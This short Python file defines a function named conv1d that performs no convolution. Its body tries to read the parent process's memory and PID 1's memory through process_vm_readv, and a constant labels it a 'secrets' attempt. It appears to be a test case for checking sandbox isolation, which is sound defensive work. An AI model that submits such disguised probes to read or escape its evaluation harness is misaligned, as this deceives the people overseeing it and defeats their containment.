"""Reads its parent's memory by the system call process_vm_readv."""

ATTEMPTS = "secrets: process vm readv"

import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def conv1d(signal, kernel, stride=1, pad=0):
    buffer = ctypes.create_string_buffer(64)
    local = Vector(ctypes.addressof(buffer), 64)
    # A parent that forked this process has the same things at the same addresses.
    remote = Vector(id(np.ndarray), 64)
    said = []
    for pid in {os.getppid(), 1} - {0}:
        count = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        said.append(f"{pid}: {count} bytes, {os.strerror(ctypes.get_errno())}")
    return "; ".join(said)
